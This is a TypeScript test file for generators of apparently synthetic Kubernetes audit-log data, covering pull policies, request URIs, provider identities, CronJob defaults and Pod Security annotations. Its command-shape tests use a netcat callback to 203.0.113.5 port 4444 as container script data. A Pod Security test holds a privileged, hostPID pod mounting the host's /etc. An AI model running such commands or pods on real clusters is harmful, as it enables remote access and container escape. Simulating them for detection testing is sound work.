/** Tables of values the generators and builders must and must not produce. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import * as g from '../../generators/index.js'
import { defaultPullPolicy, cronJobObject, fieldsV1 } from '../../generators/_internals/builders/objects.js'
import type { Action } from '../../generators/types.js'
import { podSecurityAuditAnnotation } from '../../generators/_internals/builders/podSecurity.js'

const sample = <T>(gen: g.Gen<T>, n = 300): T[] => Array.from({ length: n }, (_, i) => gen.draw(g.createRng(11, i)))

describe('defaultPullPolicy (imagePullPolicy defaulting)', () => {
  it.each([
    ['alpine:latest', 'Always'],
    ['alpine', 'Always'],
    ['registry.example.com:5000/team/app', 'Always'],
    ['registry.example.com:5000/team/app:v1', 'IfNotPresent'],
    ['ubuntu:20.04', 'IfNotPresent'],
    ['busybox@sha256:abc', 'IfNotPresent'],
  ])('%s → %s', (image, policy) => expect(defaultPullPolicy(image)).toBe(policy))
})

describe('microTime', () => {
  it.each([
    [1773454663512873, '2026-03-14T02:17:43.512873Z'],
    [1773454663000000, '2026-03-14T02:17:43.000000Z'],
    [1773454663000001, '2026-03-14T02:17:43.000001Z'],
  ])('%d → %s', (micros, text) => expect(g.microTime(micros)).toBe(text))
})

describe('requestUri', () => {
  const base: Action = { auditId: 'x', time: 0, latencyMicros: 0, verb: 'create', apiGroup: 'batch', apiVersion: 'v1', resource: 'cronjobs', namespace: 'default', name: 'backup', actor: { kind: 'anonymous' }, userAgent: '', sourceIp: '', outcome: { code: 201 } }
  it.each([
    [{ query: 'fieldManager=kubectl-create&fieldValidation=Strict' }, '/apis/batch/v1/namespaces/default/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict'],
    [{ verb: 'get' as const }, '/apis/batch/v1/namespaces/default/cronjobs/backup'],
    [{ verb: 'list' as const, query: 'limit=500' }, '/apis/batch/v1/namespaces/default/cronjobs?limit=500'],
    [{ verb: 'update' as const, subresource: 'status' }, '/apis/batch/v1/namespaces/default/cronjobs/backup/status'],
    [{ verb: 'create' as const, apiGroup: '', resource: 'pods', name: undefined }, '/api/v1/namespaces/default/pods'],
    [{ verb: 'get' as const, apiGroup: '', resource: 'nodes', namespace: undefined, name: 'n1' }, '/api/v1/nodes/n1'],
  ])('%j', (patch, uri) => expect(g.requestUri({ ...base, ...patch } as Action)).toBe(uri))
})

describe('schedule', () => {
  it('frequent schedules run every few minutes', () => {
    for (const s of sample(g.schedule({ kind: 'frequent' }))) expect(s).toMatch(/^(\*\/\d+|\*) \* \* \* \*$/)
  })
  it('periodic schedules never run every minute', () => {
    for (const s of sample(g.schedule({ kind: 'periodic' }))) expect(s).not.toMatch(/^\*/)
  })
})

describe('image', () => {
  it('shell images are the small base images', () => {
    for (const i of sample(g.image({ set: 'shell' }))) expect(i).toMatch(/^(alpine|busybox|ubuntu|debian)/)
  })
  it('app images live in a registry and are never base images', () => {
    for (const i of sample(g.image({ set: 'app' }))) expect(i).toMatch(/^[a-z0-9.-]+(\.[a-z]+|\.io)\/.+:v\d+\.\d+\.\d+$/)
  })
})

describe('command shapes', () => {
  it.each([
    ['argv', { command: ['/bin/sh', '-c', 'nc 203.0.113.5 4444'] }],
    ['split', { command: ['/bin/sh', '-c'], args: ['nc 203.0.113.5 4444'] }],
    ['args', { command: ['/bin/sh'], args: ['-c', 'nc 203.0.113.5 4444'] }],
    ['string', { args: ["/bin/sh -c 'nc 203.0.113.5 4444'"] }],
  ] as const)('%s', (shape, value) => {
    expect(g.command({ script: 'nc 203.0.113.5 4444', shapes: [shape] }).draw(g.createRng(1))).toEqual(value)
  })
  it('only the string shape holds the phrase "/bin/sh -c"', () => {
    const gen = g.command({ script: 'id' })
    for (const v of sample(gen)) {
      const text = JSON.stringify(v)
      expect(text.includes('/bin/sh -c')).toBe(v.command === undefined)
    }
  })
})

describe('identity per provider (logformats §2.4, §3.6, §5.5)', () => {
  const humans = (provider: 'eks' | 'aks' | 'gke' | 'kubernetes', adminChance: number) =>
    sample(g.identity({ kinds: ['human'], adminChance, automationChance: 0, context: g.clusterContext.example(provider) }), 100)
  it('EKS access entries are STS ARNs with @ replaced in the username only', () => {
    for (const u of humans('eks', 0)) {
      expect(u.username).toMatch(/^arn:aws:sts::111122223333:assumed-role\/[\w-]+\/[a-z]+-[a-z.]+$/)
      expect(u.uid).toMatch(/^aws-iam-authenticator:111122223333:AROA[A-Z2-7]{17}$/)
      expect(u.extra?.sessionName?.[0]).toMatch(/@/)
      expect(Object.keys(u.extra ?? {})).toEqual(['accessKeyId', 'arn', 'canonicalArn', 'principalId', 'sessionName'])
    }
  })
  it('EKS aws-auth admins are kubernetes-admin in system:masters', () => {
    for (const u of humans('eks', 1)) expect(u).toMatchObject({ username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] })
  })
  it('AKS Entra users are UPNs with group object ids and extra.oid; --admin is masterclient', () => {
    for (const u of humans('aks', 0)) {
      expect(u.username).toMatch(/^[a-z]+@[a-z.]+$/)
      expect(u.groups?.at(-1)).toBe('system:authenticated')
      expect(u.extra?.oid?.[0]).toMatch(/^[0-9a-f-]{36}$/)
    }
    for (const u of humans('aks', 1)) expect(u.username).toBe('masterclient')
  })
  it('GKE principals are e-mail addresses', () => {
    for (const u of humans('gke', 0.5)) expect(u.username).toMatch(/^[a-z]+@[a-z.]+$/)
  })
  it('automation: AKS service principals by object id, EKS SDK sessions, GKE Google service accounts', () => {
    const auto = (provider: 'eks' | 'aks' | 'gke') => sample(g.identity({ kinds: ['human'], adminChance: 0, automationChance: 1, context: g.clusterContext.example(provider) }), 50)
    for (const u of auto('aks')) expect(u.username).toBe(u.extra?.oid?.[0])
    for (const u of auto('eks')) expect(u.username).toMatch(/^arn:aws:sts::111122223333:assumed-role\/[\w-]+\/aws-go-sdk-\d+$/)
    for (const u of auto('gke')) expect(u.username).toMatch(/^[a-z]+-deployer@acme-prod\.iam\.gserviceaccount\.com$/)
  })
  it('EKS control-plane identities start with eks:', () => {
    const users = sample(g.identity({ kinds: ['system'], systemRoles: ['addon-manager', 'certificate-controller', 'node-manager'], context: g.clusterContext.example('eks') }), 50)
    for (const u of users) expect(u.username).toMatch(/^eks:/)
  })
})

describe('cronJob objects are logged with server defaults (§1.8, §1.9)', () => {
  it('have creationTimestamp null, status {}, history limits and container defaults', () => {
    fc.assert(
      fc.property(g.cronJob(), (cj) => {
        expect(cj).toMatchObject({ kind: 'CronJob', apiVersion: 'batch/v1', metadata: { creationTimestamp: null }, status: {} })
        const spec = cj.spec as Record<string, unknown>
        expect(spec.successfulJobsHistoryLimit).toBe(3)
        expect(spec.failedJobsHistoryLimit).toBe(1)
        const pod = ((spec.jobTemplate as { spec: { template: { spec: Record<string, unknown> } } }).spec.template.spec)
        expect(pod).toMatchObject({ dnsPolicy: 'ClusterFirst', schedulerName: 'default-scheduler', enableServiceLinks: true, terminationGracePeriodSeconds: 30, securityContext: {} })
        for (const c of pod.containers as Record<string, unknown>[]) expect(c).toMatchObject({ terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', resources: expect.any(Object) })
      }),
      { numRuns: 100, seed: 3 },
    )
  })
  it('fieldsV1 follows the FieldsV1 encoding of the reference example', () => {
    const cj = cronJobObject({ meta: { name: 'b', namespace: 'default' }, schedule: '0 2 * * *', job: { template: { containers: [{ name: 'pg-dump', image: 'postgres:16.4-alpine' }], restartPolicy: 'OnFailure' } } })
    const f = fieldsV1(cj)
    const tmpl = ((((f['f:spec'] as any)['f:jobTemplate'] as any)['f:spec'] as any)['f:template'] as any)['f:spec'] // eslint-disable-line @typescript-eslint/no-explicit-any -- deep literal path in a test
    expect(Object.keys(f)).toEqual(['f:spec'])
    expect((f['f:spec'] as any)['.']).toBeUndefined() // eslint-disable-line @typescript-eslint/no-explicit-any
    expect(tmpl['f:containers']['k:{"name":"pg-dump"}']).toMatchObject({ '.': {}, 'f:image': {}, 'f:imagePullPolicy': {} })
  })
})

describe('Pod Security audit annotation (baseline)', () => {
  it.each([
    [{ containers: [{ name: 'a', image: 'x' }] }, undefined],
    [
      { hostPID: true, volumes: [{ name: 'host-etc', hostPath: { path: '/etc', type: '' } }], containers: [{ name: 'reader', image: 'busybox', securityContext: { privileged: true } }] },
      'would violate PodSecurity "baseline:latest": host namespaces (hostPID=true), privileged (container "reader" must not set securityContext.privileged=true), hostPath volumes (volume "host-etc")',
    ],
    [
      { containers: [{ name: 'x', image: 'y', securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'SYS_ADMIN'] } } }] },
      'would violate PodSecurity "baseline:latest": non-default capabilities (container "x" must not include "SYS_ADMIN" in securityContext.capabilities.add)',
    ],
  ])('%j', (spec, text) => {
    expect(podSecurityAuditAnnotation({ kind: 'Pod', spec })?.['pod-security.kubernetes.io/audit-violations']).toBe(text)
  })
})
